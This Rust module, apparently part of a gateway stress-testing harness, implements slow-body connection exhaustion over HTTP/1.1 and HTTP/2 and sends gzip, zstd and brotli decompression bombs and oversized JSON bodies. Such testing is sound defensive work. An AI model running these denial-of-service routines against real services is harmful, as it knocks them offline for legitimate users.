//! Requests whose bodies are large, unfinished or costly to read.

use std::collections::BTreeMap;
use std::io::{self, Write};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{interval, sleep, timeout};

use super::replies::{PAUSE, path};
use super::{Running, calls};
use crate::hostile::{Attacker, HostileConnection};
use crate::http1;
use crate::http2::{
    self, DATA, DEFAULT_WINDOW_BYTES, END_HEADERS, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE,
};
use crate::run::AttackContext;

const CONNECTIONS: usize = 100;
const STREAMS: usize = 100;

/// The gateway's default limit.
const BODY_BYTES: usize = 5 << 20;

const UNKNOWN_CONNECTIONS: usize = 1_000;
const UNKNOWN_BODY_BYTES: usize = 64 << 10;

const MEMBERS: usize = 870_000;
const MEMBERS_PER_SECOND: u32 = 46;

/// So many made other callers wait 40 ms when each took 3 ms of a connection's thread.
const ENCODED_PER_SECOND: u32 = 155;
const ENCODED_PATIENCE: Duration = Duration::from_secs(10);

/// Bytes of a body of many empty parts.
const EMPTY_PARTS_BYTES: usize = 64 << 10;

const GZIP_HEAD_BYTES: usize = 10;

/// The largest frame that the protocol allows without an agreement.
const FRAME_BYTES_MAX: usize = 16 << 10;

pub(super) fn open_bodies_h1(context: AttackContext) -> Running {
    let count = context.options.scaled(CONNECTIONS);
    Box::pin(hold_open_bodies(context.attacker, count, |_| path(), BODY_BYTES))
}

pub(super) fn unknown_key_bodies(context: AttackContext) -> Running {
    let count = context.options.scaled(UNKNOWN_CONNECTIONS);
    let unknown = |place| format!("/v3/unknown-caller-{place:016}");
    Box::pin(hold_open_bodies(context.attacker, count, unknown, UNKNOWN_BODY_BYTES))
}

/// Keeps so many connections with unfinished bodies open; one that is cut is opened again.
async fn hold_open_bodies(attacker: Attacker, count: usize, path: fn(usize) -> String, length: usize) {
    let mut connections = JoinSet::new();
    for place in 0..count {
        let attacker = attacker.clone();
        connections.spawn(async move {
            loop {
                if let Ok(mut connection) = attacker.connect().await {
                    // However it ends, the gateway has ended it.
                    let _ended = send_all_but_one(&mut connection, &path(place), length).await;
                    connection.was_cut();
                }
                sleep(PAUSE).await;
            }
        });
    }
    connections.join_all().await;
}

/// Sends a body without its last byte, and waits until the gateway ends the connection.
async fn send_all_but_one(connection: &mut HostileConnection, path: &str, length: usize) -> io::Result<()> {
    let (mut reader, mut writer) = connection.stream.split();
    writer.write_all(http1::post_head(path, "", length).as_bytes()).await?;
    let part = vec![b' '; FRAME_BYTES_MAX];
    let mut left = length - 1;
    while left > 0 {
        let size = left.min(part.len());
        writer.write_all(&part[..size]).await?;
        left -= size;
    }
    let mut reply = vec![0; 4 << 10];
    while reader.read(&mut reply).await? > 0 {}
    Ok(())
}

pub(super) fn open_bodies_h2(context: AttackContext) -> Running {
    Box::pin(async move {
        let streams = context.options.scaled(STREAMS);
        loop {
            if let Ok(mut connection) = context.attacker.connect().await {
                let _ended = OpenStreams::new(streams).hold(&mut connection).await;
                connection.was_cut();
            }
            sleep(PAUSE).await;
        }
    })
}

/// Streams of one connection with bytes left to send, under the protocol's flow control.
struct OpenStreams {
    connection_window: i64,
    initial_window: i64,
    /// Per stream: its window, and what is left of the body without the last byte.
    streams: BTreeMap<u32, (i64, usize)>,
}

impl OpenStreams {
    fn new(count: usize) -> Self {
        let streams =
            (0..count as u32).map(|number| (2 * number + 1, (DEFAULT_WINDOW_BYTES, BODY_BYTES - 1)));
        Self {
            connection_window: DEFAULT_WINDOW_BYTES,
            initial_window: DEFAULT_WINDOW_BYTES,
            streams: streams.collect(),
        }
    }

    /// Sends what the gateway grants until it ends the connection.
    async fn hold(mut self, connection: &mut HostileConnection) -> io::Result<()> {
        let mut opening = http2::opening(&[]);
        for stream in self.streams.keys() {
            opening.extend(http2::frame(
                HEADERS,
                END_HEADERS,
                *stream,
                &http2::post_headers(&path(), BODY_BYTES),
            ));
        }
        connection.stream.write_all(&opening).await?;
        loop {
            let frame = http2::read_frame(&mut connection.stream).await?;
            if let Some(acknowledgement) = frame.acknowledgement() {
                connection.stream.write_all(&acknowledgement).await?;
            }
            self.take(&frame);
            while let Some(data) = self.next_frame() {
                connection.stream.write_all(&data).await?;
            }
        }
    }

    fn take(&mut self, frame: &http2::OutgoingFrame) {
        match frame.kind {
            SETTINGS => {
                let Some(window) = frame.setting(http2::INITIAL_WINDOW_SIZE) else { return };
                let change = i64::from(window) - self.initial_window;
                self.initial_window = i64::from(window);
                self.streams.values_mut().for_each(|(window, _)| *window += change);
            }
            WINDOW_UPDATE => {
                let increment = i64::from(frame.number_at(0).unwrap_or(0));
                if frame.stream == 0 {
                    self.connection_window += increment;
                } else if let Some((window, _)) = self.streams.get_mut(&frame.stream) {
                    *window += increment;
                }
            }
            // It is refused.
            RST_STREAM | HEADERS => drop(self.streams.remove(&frame.stream)),
            _ => {}
        }
    }

    fn next_frame(&mut self) -> Option<Vec<u8>> {
        let connection_window = self.connection_window;
        let (stream, (window, left)) = self
            .streams
            .iter_mut()
            .find(|(_, (window, left))| *window > 0 && *left > 0 && connection_window > 0)?;
        let size = (*left).min(FRAME_BYTES_MAX).min((*window).min(connection_window) as usize);
        *window -= size as i64;
        *left -= size;
        self.connection_window -= size as i64;
        Some(http2::frame(DATA, 0, *stream, &vec![b' '; size]))
    }
}

pub(super) fn zstd_members(context: AttackContext) -> Running {
    Box::pin(async move {
        let inflated = call_with_members(context.options.scaled(MEMBERS));
        let body = zstd::bulk::compress(inflated.as_bytes(), 19);
        if let Ok(body) = &body {
            context.note(format!("{} bytes inflate to {}", body.len(), inflated.len()));
        }
        send_encoded(&context, "zstd", body.map(|body| vec![body]), MEMBERS_PER_SECOND).await;
    })
}

pub(super) fn gzip_bodies(context: AttackContext) -> Running {
    Box::pin(async move {
        let bodies = costly_gzip(context.options.scaled(BODY_BYTES));
        send_encoded(&context, "gzip", bodies, ENCODED_PER_SECOND).await;
    })
}

pub(super) fn zstd_bodies(context: AttackContext) -> Running {
    Box::pin(async move {
        let bodies = costly_zstd(context.options.scaled(BODY_BYTES));
        send_encoded(&context, "zstd", bodies, ENCODED_PER_SECOND).await;
    })
}

pub(super) fn brotli_bodies(context: AttackContext) -> Running {
    let bodies = Ok(vec![brotli_with_widest_window(calls::chain_id().as_bytes())]);
    Box::pin(async move { send_encoded(&context, "br", bodies, ENCODED_PER_SECOND).await })
}

/// Sends the compressed bodies in turn, each over a connection of its own.
async fn send_encoded(
    context: &AttackContext,
    coding: &str,
    bodies: io::Result<Vec<Vec<u8>>>,
    per_second: u32,
) {
    let Ok(bodies) = bodies else {
        return context.exceeded("the attack could not be compressed".to_owned());
    };
    let headers = format!("Content-Encoding: {coding}\r\n");
    let requests: Vec<_> = bodies.iter().map(|body| http1::post(&path(), &headers, body)).collect();
    let (mut answers, mut ticks) = (JoinSet::new(), interval(Duration::from_secs(1) / per_second));
    for request in requests.iter().cycle() {
        if context.is_over() {
            return;
        }
        ticks.tick().await;
        let (attacker, request) = (context.attacker.clone(), request.clone());
        answers.spawn(timeout(ENCODED_PATIENCE, async move {
            let mut connection = attacker.connect().await?;
            connection.stream.write_all(&request).await?;
            http1::read_reply(&mut connection.stream).await.map(|_| attacker.count_request())
        }));
        while answers.try_join_next().is_some() {}
    }
}

/// A bomb, a body of many members that are empty, and a body of many blocks that are empty.
fn costly_gzip(bomb_bytes: usize) -> io::Result<Vec<Vec<u8>>> {
    let gzip = |text: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(text)?;
        encoder.finish()
    };
    let empty = gzip(b"")?;
    let mut blocks = empty[..GZIP_HEAD_BYTES].to_vec();
    while blocks.len() < EMPTY_PARTS_BYTES {
        blocks.extend_from_slice(&[0, 0, 0, 0xff, 0xff]);
    }
    blocks.extend_from_slice(&empty[GZIP_HEAD_BYTES..]);
    Ok(vec![gzip(&vec![b' '; bomb_bytes])?, empty.repeat(EMPTY_PARTS_BYTES / empty.len()), blocks])
}

/// A bomb, a body of many frames that are empty, and a body of many blocks that are empty, with the widest window.
fn costly_zstd(bomb_bytes: usize) -> io::Result<Vec<Vec<u8>>> {
    let empty = zstd::bulk::compress(b"", 1)?;
    // The magic number, a frame without a length, and a window of 8 MiB.
    let mut blocks = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 13 << 3];
    while blocks.len() < EMPTY_PARTS_BYTES {
        blocks.extend_from_slice(&[0, 0, 0]);
    }
    blocks.extend_from_slice(&[1, 0, 0]);
    let bomb = zstd::bulk::compress(&vec![b' '; bomb_bytes], 19)?;
    Ok(vec![bomb, empty.repeat(EMPTY_PARTS_BYTES / empty.len()), blocks])
}

/// Text in one uncompressed block, with a window of 16 MiB.
fn brotli_with_widest_window(text: &[u8]) -> Vec<u8> {
    let head = 0x0080_000f | (text.len() as u32 - 1) << 7;
    [&head.to_le_bytes()[..3], text, &[3]].concat()
}

/// A cheap call with so many members that mean nothing.
fn call_with_members(count: usize) -> String {
    let call = calls::balance();
    let mut text = String::with_capacity(call.len() + count * 6);
    text.push('{');
    (0..count - 20).for_each(|_| text.push_str(r#""a":1,"#));
    text.push_str(&call[1..]);
    text
}
